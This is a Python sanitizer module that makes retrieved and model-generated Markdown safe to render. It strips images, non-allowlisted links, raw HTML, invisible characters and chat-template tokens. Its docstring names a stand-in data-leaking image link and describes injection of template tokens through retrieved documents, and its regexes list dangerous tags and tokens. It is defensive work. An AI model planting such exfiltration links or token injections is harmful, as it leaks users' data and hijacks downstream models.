"""Text that people see, made safe to render as Markdown: nothing in it makes a browser fetch or link elsewhere.

Answers, snippets and source panels are Markdown built partly from documents (and from a model that read them),
so a document can carry `![](https://sink/leak?d=…)`, a "click here to verify" link, or raw HTML. Here:
images become their alt text (never images, whatever the host); links, autolinks and bare URLs stay live only for
hosts on the allowlist (RAG_LINK_ALLOWLIST) and for relative links, else they become a plain-text marker naming the
host; raw HTML never renders (tags with attributes or dangerous names dropped, the rest escaped); `javascript:`
and `data:` URLs are never live; chat-template tokens (`<|im_start|>`) become plain text, for whoever feeds the
text to a model next. Whatever the structural pass misses, the last pass breaks: no `![`, `](` or reference
definition survives outside the links that were kept.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from urllib.parse import quote, urlsplit

# Characters that render as nothing (zero-width, bidi controls, tag characters, fillers, variation selectors):
# hidden instructions and spoofed text hide in them. C0/C1 controls (terminal escapes) go too; tab and line
# breaks stay, vertical tab and form feed become line breaks.
INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164"
    "\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\U000e0000-\U000e007f\U000e0100-\U000e01ef"
    "\x00-\x08\x0e-\x1f\x7f-\x9f]"
)
_BREAKS = re.compile("[\x0b\x0c]")
_TERMINAL_MOVES = re.compile("[\x0b\x0c\r]")  # kept by INVISIBLE (they break lines), but they move a cursor


def _nested(levels: int) -> str:
    """Link text with brackets nested up to `levels` deep (Markdown allows any depth; the belts catch deeper)."""
    inner = r"(?:[^\[\]\\\n]|\\.)*"
    for _ in range(levels):
        inner = rf"(?:[^\[\]\\\n]|\\.|\[{inner}\])*"
    return inner


_TEXT = _nested(3)
_DEST = r"<[^<>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*"
_TITLE = r"\"[^\"]*\"|'[^']*'|\([^()]*\)"
_INLINE = re.compile(rf"(!?)\[({_TEXT})\]\(\s*({_DEST})(?:\s+(?:{_TITLE}))?\s*\)")
_REFERENCE = re.compile(rf"(!?)\[({_TEXT})\](?:\[([^\[\]\n]*)\])?")
_DEFINITION = re.compile(
    rf"^ {{0,3}}\[([^\[\]\n]+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)(?:[ \t]*\n?[ \t]*(?:{_TITLE}))?[ \t]*$", re.MULTILINE)
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w.-]+)>")
_SCRIPT = re.compile(r"<(script|style|textarea|title|xmp|noembed|noframes)\b.*?(?:</\1\s*>|$)", re.I | re.DOTALL)
_COMMENT = re.compile(r"<!--.*?(?:-->|$)|<![^>]*>|<\?.*?(?:\?>|$)", re.DOTALL)
_TAG = re.compile(r"</?([A-Za-z][\w:-]*)((?:\s[^<>]*)?)/?>")
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_DANGEROUS = frozenset({
    "a", "applet", "area", "audio", "base", "basefont", "bgsound", "body", "button", "embed", "form", "frame",
    "frameset", "head", "html", "iframe", "image", "img", "input", "isindex", "keygen", "link", "map", "marquee",
    "math", "meta", "noscript", "object", "picture", "portal", "select", "source", "svg", "template", "track",
    "video"})
_ATTR_URL = re.compile(r"""(?:[a-z][a-z0-9+.-]*:)?//[^\s"'<>]+""", re.I)
# GFM autolinks bare `scheme://…`, `www.…` and mailto:/xmpp: addresses; a protocol-relative `//host/…` becomes a
# link when text before it ends in `[…]`. CJK text and full-width punctuation end a URL here (a browser would not
# stop there, but the text after it is not part of the link we name).
_STOP = "\\s<>\"'`\u3000-\u303f\u3400-\u4dbf\u4e00-\u9fff\uf900-\ufaff\uff00-\uffef"
_BARE = re.compile(rf"(?<![\w@.:/-])(?:[a-z][a-z0-9+.-]{{1,31}}://|www\.|(?:mailto|xmpp):|//(?=[\w-]+(?:\.[\w-]+)+))"
                   rf"[^{_STOP}]+", re.I)
_TRAILING = ".,:;!?*_~'\""
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.I)
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,}).*?(?:^ {0,3}\1[ \t]*$|\Z)", re.MULTILINE | re.DOTALL)
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", re.DOTALL)
_HOLD = re.compile("\x00(\\d+)\x00")
_LIVE_SCHEMES = frozenset({"http", "https"})
# Chat-template special tokens: vLLM would read them in a text as real turn boundaries (ChatML, Llama, Mistral,
# Gemma, and SmolLM2's StarCoder tokens).
_TEMPLATE = re.compile(r"<\|([^|<>\n]{0,40})\|>|<(/?(?:s|unk|pad|bos|eos|start_of_turn|end_of_turn|repo_?name|file_sep|"
                       r"filename|gh_stars|issue_\w{1,12}|jupyter_\w{1,12}|empty_output|fim_\w{1,12}))>|"
                       r"\[(/?INST)\]|<<(/?SYS)>>", re.IGNORECASE)


def printable(text: str) -> str:
    """The text as a terminal may show it: control and invisible characters (escape sequences, OSC 8 links,
    carriage returns, bidi overrides) each replaced by U+FFFD, so that they are seen and never obeyed."""
    return INVISIBLE.sub("\ufffd", _TERMINAL_MOVES.sub("\ufffd", text.replace("\r\n", "\n")))


def strip_invisible(text: str) -> str:
    """The text without invisible characters (zero-width, bidi, tags, fillers) and control characters."""
    return INVISIBLE.sub("", _BREAKS.sub("\n", text))


def defuse_template_tokens(text: str) -> str:
    """The text with chat-template special tokens made plain text (`<|im_end|>` → `‹|im_end|›`)."""
    return _TEMPLATE.sub(_defused_token, text)


def _defused_token(match: re.Match[str]) -> str:
    if match[1] is not None:
        return f"\u2039|{match[1]}|\u203a"
    if match[2] is not None:
        return f"\u2039{match[2]}\u203a"
    return f"({match[3]})" if match[3] is not None else f"\u00ab{match[4]}\u00bb"


@dataclass(frozen=True, slots=True)
class Removed:
    """Something taken out of shown text: an image, a link or URL, or raw HTML; `host` is where it pointed."""

    kind: str  # "image", "link", "html"
    host: str = ""

    def as_json(self) -> dict[str, str]:
        """On the wire: {"kind": …, "host": …}."""
        return {"kind": self.kind, "host": self.host}


@dataclass(frozen=True, slots=True)
class Sanitized:
    """Safe text and what was removed from it (each kind and host once, in the order found)."""

    text: str
    removed: tuple[Removed, ...] = ()


@dataclass(frozen=True, slots=True)
class LinkPolicy:
    """Which hosts links may point at: exact hosts, or `*.example.com` for its subdomains (and itself)."""

    hosts: frozenset[str] = frozenset()

    @classmethod
    def parse(cls, setting: str) -> LinkPolicy:
        """From RAG_LINK_ALLOWLIST: comma-separated hosts."""
        return cls(frozenset(host.strip().lower().rstrip(".") for host in setting.split(",") if host.strip()))

    def allows(self, url: str) -> bool:
        """Whether a link to this URL may stay live: http(s) to an allowlisted host, or a same-app relative link."""
        target = _plain_url(url)
        if re.match(r"www\.", target, re.I):
            target = "https://" + target  # GFM links `www.` as http(s)
        scheme = _SCHEME.match(target)
        if not scheme and not re.match(r"[/\\]{2}", target):
            return True  # relative to the app (a path, a query or a fragment)
        if scheme and scheme[1].lower() not in _LIVE_SCHEMES:
            return False
        host = host_of(target)
        if not host or re.search(r"[@\\%]", urlsplit(target if scheme else "https:" + target).netloc):
            return False  # credentials, backslashes or escapes in the authority: browsers and parsers disagree
        return any(host == allowed or (allowed.startswith("*.") and (host == allowed[2:] or host.endswith(allowed[1:])))
                   for allowed in self.hosts)

    def clean(self, text: str) -> Sanitized:
        """The text safe to render as Markdown, with what was taken out (remembered: the pass is pure)."""
        return _cleaned(self, text)


# Texts whose cleaning is remembered: mostly stored chunks and headings, cleaned again for every answer that shows
# them (a snippet is cut from the whole cleaned chunk): ~0.5 ms of a generated answer's ~17 CPU ms
# (benchmarks.app_cost). The texts and results are kept: ~2 × 1.5 KiB each, ~6 MiB in all.
CLEANED_MEMORY = 2048


@functools.lru_cache(maxsize=CLEANED_MEMORY)
def _cleaned(policy: LinkPolicy, text: str) -> Sanitized:
    return _Pass(policy).run(text)


STRICT = LinkPolicy()


def host_of(url: str) -> str:
    """The lower-cased host a URL points at ("" when it has none), `www.` forms included."""
    target = _plain_url(url)
    if re.match(r"www\.", target, re.I):
        target = "https://" + target
    elif re.match(r"(?:mailto|xmpp):", target, re.I):
        return target.rpartition("@")[2].split("?")[0].lower() if "@" in target else ""
    elif re.match(r"[/\\]{2}", target):
        target = "https:" + target.replace("\\", "/")
    try:
        return (urlsplit(target).hostname or "").rstrip(".")
    except ValueError:
        return ""


def _plain_url(url: str) -> str:
    """What a browser would follow: entities decoded, brackets, whitespace and control characters removed."""
    plain = html.unescape(url.strip().removeprefix("<").removesuffix(">"))
    return re.sub(r"[\s\x00-\x1f\x7f]", "", INVISIBLE.sub("", plain))


def marker(host: str) -> str:
    """The plain text that replaces a link or URL that may not be live (no scheme, no `www.`: never autolinked)."""
    shown = re.sub(r"^www\.", "", host)
    return f"(link removed: {shown})" if shown else "(link removed)"


@dataclass
class _Pass:
    """One sanitising run: kept links are held out as placeholders until the end, so later passes leave them."""

    policy: LinkPolicy
    removed: list[Removed] = field(default_factory=list)
    held: list[str] = field(default_factory=list)
    live: dict[str, str] = field(default_factory=dict)  # reference label → destination, for kept definitions
    dead: set[str] = field(default_factory=set)  # labels of definitions removed

    def run(self, text: str) -> Sanitized:
        text = _SCRIPT.sub(self._html, defuse_template_tokens(strip_invisible(text)))
        text = _COMMENT.sub("", text)
        text = _DEFINITION.sub(self._definition, text)
        for _ in range(4):  # images inside link texts or alt texts: a few rounds, the belts below catch the rest
            before = text
            text = _INLINE.sub(self._inline, text)
            text = _REFERENCE.sub(self._reference, text)
            if text == before:
                break
        text = _AUTOLINK.sub(self._autolink, text)
        text = _TAG.sub(self._tag, text)
        text = _outside_code(text, lambda part: _TAG_START.sub("&lt;", part))
        text = _BARE.sub(self._bare, text)
        text = _belts(text)
        text = _HOLD.sub(lambda match: self.held[int(match[1])], text)
        return Sanitized(text, tuple(dict.fromkeys(self.removed)))

    def _hold(self, kept: str) -> str:
        self.held.append(kept)
        return f"\x00{len(self.held) - 1}\x00"

    def _note(self, kind: str, url: str) -> None:
        self.removed.append(Removed(kind, host_of(url)))

    def _definition(self, match: re.Match[str]) -> str:
        if self.policy.allows(match[2]):
            self.live[_label(match[1])] = match[2]
            return self._hold(f"[{match[1]}]: {_safe_dest(match[2])}")
        self.dead.add(_label(match[1]))
        self._note("link", match[2])
        return ""

    def _inline(self, match: re.Match[str]) -> str:
        image, label, dest = match[1], match[2], match[3]
        if image:
            self._note("image", dest)
            return label
        if self.policy.allows(dest):
            return self._hold(f"[{label}]({_safe_dest(dest)})")
        self._note("link", dest)
        return f"{label} {marker(host_of(dest))}" if label.strip() else marker(host_of(dest))

    def _reference(self, match: re.Match[str]) -> str:
        image, label, ref = match[1], match[2], match[3]
        key = _label(ref or label)
        if key in self.dead:
            return label  # its definition was removed: the text alone
        if key not in self.live:
            return match[0]  # no definition: literal text (`a[0][1]`, `[1]`)
        if image:
            self._note("image", self.live[key])
            return label
        return self._hold(match[0])

    def _autolink(self, match: re.Match[str]) -> str:
        if ":" not in match[1]:
            return match[1]  # an e-mail address: plain text, as a bare one would be
        if self.policy.allows(match[1]):
            return self._hold(f"<{match[1]}>")
        self._note("link", match[1])
        return marker(host_of(match[1]))

    def _tag(self, match: re.Match[str]) -> str:
        name, attributes = match[1].lower(), match[2].strip()
        if name not in _DANGEROUS and not attributes:
            return match[0]  # escaped below where it is not code: `<String>`, `#include <stdio.h>`
        url = _ATTR_URL.search(html.unescape(attributes))
        self.removed.append(Removed("html", host_of(url[0]) if url else ""))
        return ""

    def _html(self, match: re.Match[str]) -> str:
        self.removed.append(Removed("html"))
        return ""

    def _bare(self, match: re.Match[str]) -> str:
        url, tail = _trim(match[0])
        if self.policy.allows(url) and not re.match(r"(?:mailto|xmpp):", url, re.I):
            return self._hold(url) + tail
        self._note("link", url)
        return marker(host_of(url)) + tail


def _label(text: str) -> str:
    """A reference label as Markdown matches it: case- and whitespace-insensitive."""
    return " ".join(text.lower().split())


def _safe_dest(dest: str) -> str:
    """A kept link destination that cannot break out of its parentheses."""
    return quote(_plain_url(dest), safe=":/?#[]@!$&'*+,;=%~.-_")


def _trim(url: str) -> tuple[str, str]:
    """A bare URL without the trailing punctuation GFM leaves out of it (and an unbalanced closing parenthesis)."""
    end, unbalanced = len(url), url.count(")") - url.count("(")
    while end and (url[end - 1] in _TRAILING or (url[end - 1] == ")" and unbalanced > 0)):
        unbalanced -= url[end - 1] == ")"
        end -= 1
    return url[:end], url[end:]


def _outside_code(text: str, change: Callable[[str], str]) -> str:
    """Apply `change` to the text outside fenced code blocks and inline code spans (code renders literally)."""
    out, last = [], 0
    for match in _code_regions(text):
        out += [change(text[last:match[0]]), text[match[0]:match[1]]]
        last = match[1]
    return "".join([*out, change(text[last:])])


def _code_regions(text: str) -> Iterable[tuple[int, int]]:
    last = 0
    for fence in [*_FENCE.finditer(text), None]:
        stop = fence.start() if fence else len(text)
        for span in _CODE_SPAN.finditer(text, last, stop):
            yield span.span()
        if fence:
            yield fence.span()
            last = fence.end()


def _belts(text: str) -> str:
    """Break whatever image, inline link or reference definition the structured passes did not recognise."""
    text = text.replace("![", "!\\[").replace("](", "]\\(")
    return re.sub(r"^( {0,3}\[[^\[\]\n]*\]):", r"\1\\:", text, flags=re.MULTILINE)
